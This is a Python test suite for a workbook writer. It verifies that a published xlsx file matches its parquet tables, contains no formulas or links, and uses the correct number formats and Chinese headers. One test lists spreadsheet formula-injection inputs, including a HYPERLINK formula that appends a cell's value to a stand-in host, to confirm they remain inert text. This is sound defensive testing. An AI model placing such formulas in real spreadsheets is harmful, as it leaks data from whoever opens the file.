"""The workbook is exact and inert: every sheet reads back cell by cell as its parquet table, and no cell is a formula.

The reader below parses the xlsx XML itself (shared strings, cell types), so nothing a spreadsheet
library might interpret stands between the file and the comparison.
"""

import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import polars as pl
import pytest

from hotlinecompare.output.publish import WORKBOOK, write_workbook

ROOT = Path(__file__).resolve().parent.parent
CLEAN = ROOT / "data" / "clean"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"


def _column(ref: str) -> int:
    n = 0
    for ch in re.match(r"[A-Z]+", ref).group():
        n = n * 26 + ord(ch) - 64
    return n - 1


def _unescape(text: str) -> str:
    """Excel's _xHHHH_ escapes of control characters (and of a literal _x…_ as _x005F_)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def read_workbook(path: Path) -> tuple[dict[str, dict[tuple[int, int], object]], int]:
    """Every sheet as {(row, col): value} (strings as str, numbers as float, booleans as bool) and the
    number of formula cells in the whole workbook."""
    with zipfile.ZipFile(path) as z:
        strings = []
        if "xl/sharedStrings.xml" in z.namelist():
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
                strings.append(_unescape("".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))))
        rels = {r.get("Id"): r.get("Target") for r in ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
        sheets, formulas = {}, 0
        for sheet in book.find("m:sheets", NS):
            xml = ElementTree.fromstring(z.read("xl/" + rels[sheet.get(REL)].lstrip("/").removeprefix("xl/")))
            cells = {}
            for c in xml.iter(f"{{{NS['m']}}}c"):
                formulas += c.find("m:f", NS) is not None
                v, kind = c.find("m:v", NS), c.get("t", "n")
                ref = c.get("r")
                key = (int(re.search(r"\d+", ref).group()) - 1, _column(ref))
                if kind == "s":
                    cells[key] = strings[int(v.text)]
                elif kind == "inlineStr":
                    cells[key] = _unescape("".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t")))
                elif kind == "b":
                    cells[key] = v.text == "1"
                elif v is not None:
                    cells[key] = float(v.text) if kind == "n" else v.text
            sheets[sheet.get("name")] = cells
    return sheets, formulas


def as_cell(value):
    """A parquet value as the workbook stores it: text verbatim, numbers to 16 significant digits
    (xlsxwriter's and about Excel's precision), an empty string or a null as an empty cell."""
    if value is None or value == "":
        return None
    if isinstance(value, (bool, str)):
        return value
    return float(f"{value:.16G}")


# Row 0 holds the Chinese column labels; the table (its own header, then the data) starts on row 1.
HEADER = 1


def assert_sheet_equals_table(cells: dict, frame: pl.DataFrame, name: str) -> None:
    assert [cells.get((HEADER, j)) for j in range(frame.width)] == frame.columns, name
    for i, row in enumerate(frame.iter_rows(), start=HEADER + 1):
        for j, value in enumerate(row):
            assert cells.get((i, j)) == as_cell(value), (name, frame.columns[j], i, value, cells.get((i, j)))
    assert max((r for r, _ in cells), default=0) == frame.height + HEADER, name


@pytest.fixture(scope="module")
def committed():
    return read_workbook(CLEAN / WORKBOOK)


def test_the_committed_workbook_holds_no_formula(committed):
    assert committed[1] == 0


def test_every_sheet_reads_back_as_its_parquet_table(committed):
    sheets, _ = committed
    tables = sorted(CLEAN.glob("*.parquet"))
    assert {p.stem[:31] for p in tables} <= set(sheets)
    for path in tables:
        assert_sheet_equals_table(sheets[path.stem[:31]], pl.read_parquet(path), path.stem)


def test_text_that_looks_like_a_formula_a_link_or_a_number_stays_text(tmp_path):
    hostile = ['=HYPERLINK("http://x.example/"&A1,"click")', "=48%", "=", "{=SUM(A1:A2)}", "http://x.example",
               "mailto:a@b.c", "0012", "1e308", "@SUM(A1)", "_x0041_", "tab\there", "  padded  "]
    frame = pl.DataFrame({"item": hostile, "value": [1.5] * len(hostile)})
    path = write_workbook({"facts": frame}, tmp_path / WORKBOOK, [])
    sheets, formulas = read_workbook(path)
    assert formulas == 0
    assert_sheet_equals_table(sheets["facts"], frame, "facts")
    with zipfile.ZipFile(path) as z:
        rels = [z.read(n).decode() for n in z.namelist() if "worksheets/_rels" in n]
    assert rels and not any("hyperlink" in r for r in rels)   # the sheets' tables only, no links
    assert pl.read_excel(path, sheet_name="facts", read_options={"header_row": HEADER})["item"].to_list() == hostile


def number_formats(path: Path, sheet_name: str) -> dict[tuple[int, int], str]:
    """The number format code of every cell of one sheet ({(row, col): code}; General where none is set)."""
    builtin = {0: "General", 1: "0", 3: "#,##0", 4: "#,##0.00", 10: "0.00%"}
    with zipfile.ZipFile(path) as z:
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
        codes = {int(f.get("numFmtId")): f.get("formatCode") for f in styles.iter(f"{{{NS['m']}}}numFmt")}
        xfs = [int(x.get("numFmtId", 0)) for x in styles.find("m:cellXfs", NS)]
        rels = {r.get("Id"): r.get("Target") for r in ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
        sheet = next(s for s in book.find("m:sheets", NS) if s.get("name") == sheet_name)
        xml = ElementTree.fromstring(z.read("xl/" + rels[sheet.get(REL)].lstrip("/").removeprefix("xl/")))
        out = {}
        for c in xml.iter(f"{{{NS['m']}}}c"):
            ref = c.get("r")
            fmt = xfs[int(c.get("s", 0))]
            out[(int(re.search(r"\d+", ref).group()) - 1, _column(ref))] = codes.get(fmt, builtin.get(fmt, str(fmt)))
        return out


def _column_of(frame: pl.DataFrame, name: str) -> int:
    return frame.columns.index(name)


def test_a_policy_writer_sees_years_as_2024_money_with_two_decimals_and_rates_as_percent():
    path = CLEAN / WORKBOOK
    spending = pl.read_parquet(CLEAN / "spending.parquet")
    formats = number_formats(path, "spending")
    first = HEADER + 1
    assert formats[(first, _column_of(spending, "fiscal_year"))] == "0"
    assert formats[(first, _column_of(spending, "amount_yuan"))] == "#,##0.00"
    service = pl.read_parquet(CLEAN / "service.parquet")
    rate_row = next(i for i, r in enumerate(service.iter_rows(named=True)) if r["unit_std"] == "fraction")
    assert number_formats(path, "service")[(first + rate_row, _column_of(service, "value"))] in ("General", "0.00%")
    staffing = pl.read_parquet(CLEAN / "staffing.parquet")
    assert number_formats(path, "staffing")[(first, _column_of(staffing, "count"))] == "#,##0"


def test_each_sheet_has_a_chinese_header_row_frozen_above_the_table():
    sheets, _ = read_workbook(CLEAN / WORKBOOK)
    spending = pl.read_parquet(CLEAN / "spending.parquet")
    assert sheets["spending"][(0, _column_of(spending, "fiscal_year"))] == "年度"
    assert sheets["spending"][(0, _column_of(spending, "amount_yuan"))] == "金额（元）"
    with zipfile.ZipFile(CLEAN / WORKBOOK) as z:
        names = sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert 'state="frozen"' in z.read(names[1]).decode() and "<sheetView" in z.read(names[0]).decode()
        workbook = z.read("xl/workbook.xml").decode()
    assert workbook.index('name="README"') < workbook.index('name="facts"')
